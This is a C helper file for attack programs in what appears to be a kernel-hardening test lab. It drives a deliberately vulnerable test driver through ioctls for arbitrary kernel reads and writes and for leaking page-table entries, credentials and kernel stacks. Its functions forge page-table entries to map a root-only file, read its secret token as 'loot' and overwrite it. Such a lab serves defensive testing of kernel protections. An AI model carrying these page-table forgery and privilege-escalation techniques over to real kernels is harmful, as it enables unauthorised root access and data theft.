// SPDX-License-Identifier: GPL-2.0-only
/* Helpers of the attack programs: the vulnerable driver and the prize. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

#include "common.h"
#include "files.h"

/* Twice as many as are still forgotten one by one. */
#define FORGET_PAGES	64

void die(const char *what)
{
	fprintf(stderr, "%s: %s\n", program_invocation_short_name, what);
	exit(1);
}

void out_of_reach(const char *why)
{
	printf("@attack: %s out of reach: %s\n", program_invocation_short_name,
	       why);
	fflush(stdout);
	exit(EXIT_OUT_OF_REACH);
}

void die_errno(const char *what)
{
	fprintf(stderr, "%s: %s: %s\n", program_invocation_short_name, what,
		strerror(errno));
	exit(1);
}

long page_size(void)
{
	return sysconf(_SC_PAGESIZE);
}

unsigned long parse_number(const char *text)
{
	unsigned long value;
	char *end;

	if (!text)
		die("an argument is missing; run this through /bin/attack");
	errno = 0;
	value = strtoul(text, &end, 0);
	if (errno || end == text || *end)
		die("not a number; run this through /bin/attack");
	return value;
}

static void vuln_ioctl(unsigned long cmd, void *arg, const char *what)
{
	if (ioctl(FD_VULN, cmd, arg) < 0)
		die_errno(what);
}

const struct kpkeys_vuln_info *vuln_info(void)
{
	static struct kpkeys_vuln_info info;

	if (!info.addr)
		vuln_ioctl(KPKEYS_VULN_INFO, &info, "asking for the layout");
	return &info;
}

void vuln_write(u64 addr, u64 value)
{
	struct kpkeys_vuln_write w = { .addr = addr, .value = value };

	vuln_ioctl(KPKEYS_VULN_WRITE, &w, "arbitrary write");
}

struct kpkeys_vuln_entry vuln_entry(int pid, const void *vaddr, int level)
{
	struct kpkeys_vuln_entry e = {
		.vaddr = (uintptr_t)vaddr,
		.pid = pid,
		.level = level,
	};

	vuln_ioctl(KPKEYS_VULN_ENTRY, &e, "leaking a page-table entry");
	return e;
}

struct kpkeys_vuln_file vuln_file(const char *path)
{
	struct kpkeys_vuln_file f = { .path = (uintptr_t)path };

	if (!path)
		die("the file is missing; run this through /bin/attack");
	vuln_ioctl(KPKEYS_VULN_FILE, &f, "leaking a page of the page cache");
	return f;
}

u64 vuln_file_phys(const char *path)
{
	return vuln_file(path).phys;
}

struct kpkeys_vuln_cred vuln_cred(void)
{
	struct kpkeys_vuln_cred c;

	vuln_ioctl(KPKEYS_VULN_CRED, &c, "leaking the credentials");
	return c;
}

struct kpkeys_vuln_task vuln_task(int pid)
{
	struct kpkeys_vuln_task t = { .pid = pid };

	vuln_ioctl(KPKEYS_VULN_TASK, &t, "leaking a pointer to an address space");
	return t;
}

struct kpkeys_vuln_reg vuln_reg(int pid, int reg)
{
	struct kpkeys_vuln_reg r = { .pid = pid, .reg = reg };

	vuln_ioctl(KPKEYS_VULN_REG, &r, "leaking a saved register");
	return r;
}

/* @page must be touched. */
struct kpkeys_vuln_mm vuln_mm(void *page)
{
	struct kpkeys_vuln_mm m = { .page = (uintptr_t)page };

	vuln_ioctl(KPKEYS_VULN_MM, &m, "leaking the address space");
	return m;
}

u64 vuln_read(u64 addr)
{
	struct kpkeys_vuln_write w = { .addr = addr };

	vuln_ioctl(KPKEYS_VULN_READ, &w, "arbitrary read");
	return w.value;
}

/* The kernel stack of a task, see the driver's header. */
struct kpkeys_vuln_frame vuln_frame(int pid)
{
	struct kpkeys_vuln_frame f = { .pid = pid };

	vuln_ioctl(KPKEYS_VULN_FRAME, &f, "leaking a kernel stack");
	return f;
}

/* Where the depth of this task's lazy MMU sections is counted, or 0. */
u64 vuln_lazy(void)
{
	u64 addr;

	vuln_ioctl(KPKEYS_VULN_LAZY, &addr, "leaking the lazy MMU state");
	return addr;
}

struct kpkeys_vuln_symbol vuln_symbol(const char *name)
{
	struct kpkeys_vuln_symbol symbol = { 0 };

	strncpy(symbol.name, name, sizeof(symbol.name) - 1);
	vuln_ioctl(KPKEYS_VULN_SYMBOL, &symbol, "leaking where a variable is");
	return symbol;
}

u64 vuln_pipe(int fd)
{
	struct kpkeys_vuln_pipe p = { .fd = fd };

	vuln_ioctl(KPKEYS_VULN_PIPE, &p, "leaking a buffer of a pipe");
	return p.buffer;
}

u64 vuln_key(int serial)
{
	struct kpkeys_vuln_key k = { .serial = serial };

	vuln_ioctl(KPKEYS_VULN_KEY, &k, "leaking where a key is");
	return k.addr;
}

struct kpkeys_vuln_guest vuln_guest(int vcpu, u64 addr)
{
	struct kpkeys_vuln_guest g = { .vcpu = vcpu, .addr = addr };

	vuln_ioctl(KPKEYS_VULN_GUEST, &g, "leaking an entry of a guest");
	return g;
}

u64 vuln_ptrauth(int pid)
{
	struct kpkeys_vuln_ptrauth k = { .pid = pid };

	vuln_ioctl(KPKEYS_VULN_PTRAUTH, &k, "leaking where a key of a task is");
	return k.addr;
}

/* Have a BPF program write. */
void vuln_bpf_write(u64 addr, u64 value)
{
	struct kpkeys_vuln_write w = { .addr = addr, .value = value };

	vuln_ioctl(KPKEYS_VULN_BPF, &w, "arbitrary write by a BPF program");
}

/* Writes that tolerate faults; returns whether none was refused. */
bool vuln_writes(struct kpkeys_vuln_write *list, size_t count)
{
	struct kpkeys_vuln_writes l = {
		.list = (uintptr_t)list,
		.count = count,
	};

	if (!ioctl(FD_VULN, KPKEYS_VULN_WRITES, &l))
		return true;
	if (errno != EACCES)
		die_errno("arbitrary writes");
	return false;
}

void vuln_obj(unsigned long cmd, struct kpkeys_vuln_obj *obj)
{
	vuln_ioctl(cmd, obj, "using the driver's object");
}

void vuln_flush(void)
{
	vuln_ioctl(KPKEYS_VULN_FLUSH, NULL, "flushing a kernel mapping");
}

/* Returns whether the driver gave its secret to this user. */
bool vuln_secret(struct kpkeys_vuln_secret *secret)
{
	return !ioctl(FD_VULN, KPKEYS_VULN_SECRET_GET, secret);
}

/* Reserve memory without touching it, at @where if that is given. */
void *map_pages(void *where, size_t length)
{
	int flags = MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE;
	void *p;

	if (where)
		flags |= MAP_FIXED_NOREPLACE;
	p = mmap(where, length, PROT_READ | PROT_WRITE, flags, -1, 0);
	if (p == MAP_FAILED)
		die_errno("mmap");
	/* Page by page, in tables. A kernel without huge pages knows no other way. */
	if (madvise(p, length, MADV_NOHUGEPAGE) && errno != EINVAL)
		die_errno("madvise");
	return p;
}

/* The physical address of a page of this process, which must be touched. */
u64 phys_of(void *page)
{
	return vuln_entry(KPKEYS_VULN_SELF, page, KPKEYS_VULN_PTE).value &
		vuln_info()->addr;
}

/*
 * Hardware remembers what it found in the tables. When more than a few pages
 * go at once, the kernel has it forget everything.
 */
static void flush_tlb(void)
{
	size_t length = FORGET_PAGES * page_size();
	void *p = mmap(NULL, length, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);

	if (p == MAP_FAILED || munmap(p, length))
		die_errno("mapping memory for a moment");
}

/*
 * Make the memory management unit look at everything between two pages.
 *
 * UML has no hardware that walks the tables: on the way back to user space it
 * walks the range in which something changed, and maps what is marked. So
 * have one system call fault in a page on each side. The kernel then marks
 * the range itself, and nobody looks at what was forged in between.
 */
void sync_between(char *before, char *after)
{
	struct iovec iov[2] = {
		{ .iov_base = before, .iov_len = 1 },
		{ .iov_base = after, .iov_len = 1 },
	};
	int fds[2];

	if (madvise(before, page_size(), MADV_DONTNEED) ||
	    madvise(after, page_size(), MADV_DONTNEED))
		die_errno("madvise");
	if (pipe(fds) || write(fds[1], "ab", 2) != 2 ||
	    readv(fds[0], iov, 2) != 2)
		die_errno("reading into two pages");
	close(fds[0]);
	close(fds[1]);
	flush_tlb();
}

/* @path is what the entry is to map in the end. */
struct own_page own_page(const char *path)
{
	u64 secret = vuln_file_phys(path);
	struct kpkeys_vuln_entry e;
	long size = page_size();
	struct own_page page;

	page.start = (char *)map_pages(NULL, 3 * size) + size;
	*page.start = 1;
	e = vuln_entry(KPKEYS_VULN_SELF, page.start, KPKEYS_VULN_PTE);
	page.addr = e.addr;
	page.value = e.value | vuln_info()->sync;
	page.forged = secret | vuln_info()->pte_user;
	page.table = e.page;
	return page;
}

void own_page_sync(const struct own_page *page)
{
	sync_between(page->start - page_size(), page->start + page_size());
}

/* With the entry forged. It has to be as it was before the process ends. */
void own_page_use(const struct own_page *page)
{
	own_page_sync(page);
	steal_and_alter(page->start);
}

static noreturn int sleep_for_ever(void *unused)
{
	sigset_t all;

	(void)unused;
	/* The end of the session is a signal. */
	sigfillset(&all);
	sigprocmask(SIG_BLOCK, &all, NULL);
	for (;;)
		pause();
}

static bool is_asleep(int pid)
{
	char path[64], text[512];
	const char *state;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	if (!read_text(path, text, sizeof(text)))
		die_errno(path);
	/* Behind the name, which may have brackets. */
	state = strrchr(text, ')');
	return state && !strncmp(state, ") S", 3);
}

/*
 * Have another process keep what this one has, by flags of clone(): what was
 * forged would be freed with it otherwise. Returns its number, when it sleeps
 * and touches no memory any more.
 */
int keep_for_ever(int what)
{
	static char stack[16384] __attribute__((aligned(16)));
	int pid = clone(sleep_for_ever, stack + sizeof(stack), what, NULL);

	if (pid < 0)
		die_errno("clone");
	while (!is_asleep(pid))
		usleep(1000);
	return pid;
}

bool is_token(const char *text)
{
	size_t i;

	for (i = 0; i < TOKEN_LEN; i++)
		if (!text[i] || !strchr("0123456789abcdef", text[i]))
			return false;
	return true;
}

void report_loot(const char *token)
{
	if (write(FD_LOOT, token, TOKEN_LEN) != TOKEN_LEN)
		die_errno("reporting the loot");
}

/* Through a mapping of a root-only file: read its secret and overwrite it. */
void steal_and_alter(char *secret)
{
	if (!is_token(secret))
		die("the secret did not appear: the forged entry has no effect");
	report_loot(secret);
	memcpy(secret, ALTERED, strlen(ALTERED));
}

/*
 * The same, but by way of the kernel. With page table isolation user space has
 * a topmost table of its own, and what was forged is in the kernel's.
 */
void steal_and_alter_as_kernel(char *secret)
{
	char text[TOKEN_LEN + 1] = "";
	int fds[2];

	if (pipe(fds) || write(fds[1], secret, TOKEN_LEN) != TOKEN_LEN ||
	    read(fds[0], text, TOKEN_LEN) != TOKEN_LEN || !is_token(text))
		die("the secret did not appear: the forged entry has no effect");
	report_loot(text);
	if (write(fds[1], ALTERED, strlen(ALTERED)) != strlen(ALTERED) ||
	    read(fds[0], secret, strlen(ALTERED)) != strlen(ALTERED))
		die_errno("overwriting the secret");
	close(fds[0]);
	close(fds[1]);
}

/* The same by system calls, which are allowed to root only. */
void steal_and_alter_as_root(const char *path)
{
	char secret[TOKEN_LEN];
	int fd = open(path, O_RDWR);

	if (fd < 0)
		die_errno("opening the root-only file");
	if (pread(fd, secret, TOKEN_LEN, 0) != TOKEN_LEN || !is_token(secret))
		die("the file does not hold the secret");
	report_loot(secret);
	if (pwrite(fd, ALTERED, strlen(ALTERED), 0) != (ssize_t)strlen(ALTERED))
		die_errno("overwriting the root-only file");
	close(fd);
}

/* Send the root daemon a request. Returns whether it answers with its secret. */
bool ask_daemon(char token[TOKEN_LEN])
{
	if (write(FD_REQUEST, "?", 1) != 1)
		die_errno("asking the daemon");
	return read(FD_REPLY, token, TOKEN_LEN) == TOKEN_LEN && is_token(token);
}
